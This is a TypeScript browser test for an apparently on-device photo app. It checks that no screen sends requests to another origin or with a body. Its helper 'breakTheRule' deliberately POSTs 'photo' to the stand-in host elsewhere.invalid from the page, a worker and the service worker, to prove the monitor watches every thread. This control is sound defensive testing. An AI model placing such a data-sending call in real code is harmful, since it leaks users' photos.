/** Nothing leaves: every request of every screen stays on the origin, is a GET and has no body. In Chromium. */
import type { BrowserContext } from 'playwright-core';
import { expect, it } from 'vitest';
import { spotPhoto } from '../fixtures/spot-photo.js';
import { ask, launch, serveApp, waitForServiceWorker, waitUntilReady } from './app.js';

/** Asks for an address elsewhere from each thread of the app, as it must never do. */
async function breakTheRule(context: BrowserContext): Promise<void> {
  const ask = async (thread: string): Promise<void> => {
    await fetch(`https://elsewhere.invalid/${thread}`, { method: 'POST', body: 'photo' }).catch(() => null);
  };
  const [page] = context.pages();
  const [serviceWorker] = context.serviceWorkers();
  const [worker] = page?.workers() ?? [];
  if (!page || !serviceWorker || !worker) throw new Error('A thread of the app is missing');
  await page.evaluate(ask, 'page');
  await worker.evaluate(ask, 'worker');
  await serviceWorker.evaluate(ask, 'service-worker');
}

it('sends no request to another origin and none with a body, on any screen', async () => {
  const server = await serveApp();
  const browser = await launch();
  const context = await browser.newContext();
  const seen: { url: string; method: string; body: string | null }[] = [];
  context.on('request', (request) => {
    seen.push({ url: request.url(), method: request.method(), body: request.postData() });
  });
  const page = await context.newPage();
  await page.goto(server.origin);
  await ask(page, await spotPhoto());
  await page.getByText('Technical details').click();
  await page.getByRole('link', { name: 'About and limits' }).click();
  await waitForServiceWorker(page);
  await page.reload();
  await page.goto(server.origin);
  await waitUntilReady(page);
  await page.waitForLoadState('networkidle');
  const ofTheApp = seen.slice();
  await breakTheRule(context);
  await browser.close();
  await server.close();

  const elsewhere = ofTheApp.filter(({ url }) => !url.startsWith(`${server.origin}/`) && !/^(blob|data):/u.test(url));
  expect(elsewhere).toEqual([]);
  expect(ofTheApp.filter(({ method, body }) => method !== 'GET' || body !== null)).toEqual([]);
  expect(ofTheApp.some(({ url }) => url.endsWith('/weights.bin'))).toBe(true);
  expect(server.requests.filter(({ method, bodyBytes }) => !['GET', 'HEAD'].includes(method) || bodyBytes > 0)).toEqual([]);
  // That nothing was seen counts only as long as every thread is watched.
  const caught = seen.filter(({ url, body }) => url.startsWith('https://elsewhere.invalid/') && body !== null);
  expect(caught.map(({ url }) => url.split('/').at(-1)).sort()).toEqual(['page', 'service-worker', 'worker']);
});
